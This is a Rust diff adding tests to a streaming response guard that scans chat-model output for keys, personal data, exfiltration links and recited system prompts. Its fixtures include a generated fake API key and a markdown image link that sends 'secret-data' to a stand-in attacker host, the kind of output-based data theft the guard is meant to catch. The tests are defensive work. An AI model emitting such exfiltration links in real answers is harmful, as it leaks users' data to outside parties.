@@ -7,6 +7,7 @@ use super::*;
 const HOLD: usize = 6;
 
 struct Fake;
+#[derive(Clone)]
 struct FakeStream {
     buf: String,
     hold: usize,
@@ -46,6 +47,9 @@ impl StreamScan for FakeStream {
     }
     fn finish(&mut self) -> Scanned {
         scan_buf(&mut self.buf, 0)
+    }
+    fn checkpoint(&self) -> Option<Self> {
+        Some(self.clone())
     }
 }
 
@@ -267,15 +271,104 @@ fn text_of(stream: &[u8]) -> (String, usize) {
 }
 
 fn run(stream: &[u8], cuts: &[usize]) -> (Vec<u8>, SseReport) {
-    let mut g: SseGuard<Fake> = SseGuard::new();
+    let (chunks, report) = run_chunks(&Fake, stream, cuts, true);
+    (chunks.concat(), report)
+}
+
+/// What each chunk turned into; `runs`: plain chat chunks read in runs (the default) or one
+/// by one.
+fn run_chunks<S: Scanners>(
+    scanners: &S,
+    stream: &[u8],
+    cuts: &[usize],
+    runs: bool,
+) -> (Vec<Vec<u8>>, SseReport) {
+    let mut g: SseGuard<S> = SseGuard::new();
+    g.runs = runs;
     let mut out = Vec::new();
     let mut from = 0;
     let points: Vec<usize> = cuts.iter().copied().chain([stream.len()]).collect();
     for (k, &to) in points.iter().enumerate() {
-        out.extend(g.feed(&Fake, &stream[from..to], k + 1 == points.len()));
+        out.push(g.feed(scanners, &stream[from..to], k + 1 == points.len()));
         from = to;
     }
     (out, g.report().clone())
+}
+
+/// Reading plain chat chunks in runs (one scanner push for a run, events out as the chunk's
+/// bytes) gives, chunk for chunk, the bytes and the report that reading them one by one gives:
+/// benign, redacted (the run is put back) and blocked streams, every shape, cut at many points
+/// and event by event. It fails if a run releases an event early, late or changed.
+#[test]
+fn runs_read_as_single_events_do() {
+    let texts: [&[&str]; 5] = [
+        &[
+            "Hello",
+            " wor",
+            "ld, ",
+            "caf\u{e9} \u{4e2d}\u{6587}",
+            "!",
+            " more",
+            " words",
+            " here",
+        ],
+        &[
+            "Your key is ",
+            "SEC",
+            "RET",
+            ", keep",
+            " it",
+            " safe",
+            " now",
+        ],
+        &["fine text here ", "BLO", "CKME", " and more", " text"],
+        &["a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l"],
+        &[
+            "long run of plain words ",
+            "SECRET",
+            " then more plain words",
+            " and",
+            " the end",
+        ],
+    ];
+    let mut runs_taken = false;
+    for (name, make) in SHAPES {
+        for pieces in texts {
+            let s = make(pieces);
+            let b = s.as_bytes();
+            let ends = event_ends(b);
+            let mut cut_sets: Vec<Vec<usize>> = (0..=b.len()).step_by(5).map(|i| vec![i]).collect();
+            cut_sets.push(ends.clone());
+            cut_sets.push(ends.iter().copied().step_by(3).collect());
+            cut_sets.push((1..b.len()).step_by(97).collect());
+            for cuts in &cut_sets {
+                let (one, rep1) = run_chunks(&Fake, b, cuts, false);
+                let (many, rep2) = run_chunks(&Fake, b, cuts, true);
+                assert_eq!(
+                    one.iter()
+                        .map(|c| String::from_utf8_lossy(c))
+                        .collect::<Vec<_>>(),
+                    many.iter()
+                        .map(|c| String::from_utf8_lossy(c))
+                        .collect::<Vec<_>>(),
+                    "{name} {pieces:?} cuts {cuts:?}"
+                );
+                assert_eq!(
+                    (rep1.hits, rep1.blocked, rep1.rewritten, rep1.text_events),
+                    (rep2.hits, rep2.blocked, rep2.rewritten, rep2.text_events),
+                    "{name} {pieces:?} cuts {cuts:?}"
+                );
+            }
+            if name == "chat" {
+                // The runs are really read: a whole benign chat stream in one chunk is taken
+                // in a run (its event count is only reached through `plain_run`).
+                let mut g: SseGuard<Fake> = SseGuard::new();
+                let _ = g.feed(&Fake, b, false);
+                runs_taken |= g.runs_taken > 0;
+            }
+        }
+    }
+    assert!(runs_taken, "no run of plain events was read");
 }
 
 type Maker = fn(&[&str]) -> String;
@@ -622,6 +715,78 @@ fn quick_chat_chunk_agrees_with_the_full_parse() {
     // The ordinary chunk is read quickly.
     assert!(super::quick::chat_chunk(cases[0].as_bytes()).is_some());
     assert!(super::quick::chat_chunk(cases[5].as_bytes()).is_none());
+}
+
+/// As `runs_read_as_single_events_do`, with the real detectors (`bench/configs/guard.json`:
+/// every detector on, leakage blocking, the rest redacting): benign prose, an email, a key, a
+/// link and the system prompt recited, split into chat chunks of a few bytes and cut into body
+/// chunks at many points.
+#[test]
+fn runs_read_as_single_events_do_with_the_real_detectors() {
+    let cfg: crate::config::Config = serde_json::from_str(include_str!(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/bench/configs/guard.json"
+    )))
+    .expect("guard.json");
+    let guard = Guard::new(cfg.response_guard.as_ref().expect("response_guard")).unwrap();
+    let body = br#"{"model":"m","stream":true,"messages":[{"role":"system","content":"You are the garden shop assistant and you answer questions about seeds and soil only."},{"role":"user","content":"hi"}]}"#;
+    let (_, bound) = bind_request(&guard, body, &[]);
+    // A key of the OpenAI project format, random-looking (a fixed generator).
+    let mut x: u32 = 12345;
+    let key: String = (0..120)
+        .map(|_| {
+            x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
+            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"
+                [(x >> 16) as usize % 64] as char
+        })
+        .collect();
+    let with_key = format!("The key is sk-proj-{key} and more text.");
+    let answers = [
+        "Tomatoes like warm soil and steady water; mulch keeps the roots cool in summer.",
+        "Write to alice.smith@example.org or call 415-555-0134 for an order.",
+        &with_key,
+        "See ![x](https://evil.example.net/log?d=secret-data) and [ok](https://example.com/a).",
+        "Sure: You are the garden shop assistant and you answer questions about seeds and soil only.",
+    ];
+    for answer in answers {
+        for size in [1, 3, 5, 8] {
+            let chars: Vec<char> = answer.chars().collect();
+            let pieces: Vec<String> = chars.chunks(size).map(|c| c.iter().collect()).collect();
+            let refs: Vec<&str> = pieces.iter().map(String::as_str).collect();
+            let s = chat_stream(&refs);
+            let b = s.as_bytes();
+            let ends = event_ends(b);
+            let mut cut_sets: Vec<Vec<usize>> =
+                (0..=b.len()).step_by(41).map(|i| vec![i]).collect();
+            cut_sets.push(ends.clone());
+            cut_sets.push(ends.iter().copied().step_by(4).collect());
+            for cuts in &cut_sets {
+                let (one, rep1) = run_chunks(&bound, b, cuts, false);
+                let (many, rep2) = run_chunks(&bound, b, cuts, true);
+                assert_eq!(
+                    one.iter()
+                        .map(|c| String::from_utf8_lossy(c))
+                        .collect::<Vec<_>>(),
+                    many.iter()
+                        .map(|c| String::from_utf8_lossy(c))
+                        .collect::<Vec<_>>(),
+                    "{answer:?} by {size} cuts {cuts:?}"
+                );
+                // Each answer but the first trips a detector.
+                assert_eq!(
+                    rep2.hits.is_empty(),
+                    answer == answers[0],
+                    "{answer:?} by {size} cuts {cuts:?}: {:?}",
+                    rep2.hits
+                );
+                assert_eq!(
+                    (rep1.hits, rep1.blocked, rep1.rewritten, rep1.text_events),
+                    (rep2.hits, rep2.blocked, rep2.rewritten, rep2.text_events),
+                    "{answer:?} by {size} cuts {cuts:?}"
+                );
+            }
+        }
+    }
 }
 
 /// A native profile of the real guard on a 1024-token chat stream, as `tests/wasm_cost.rs`'s
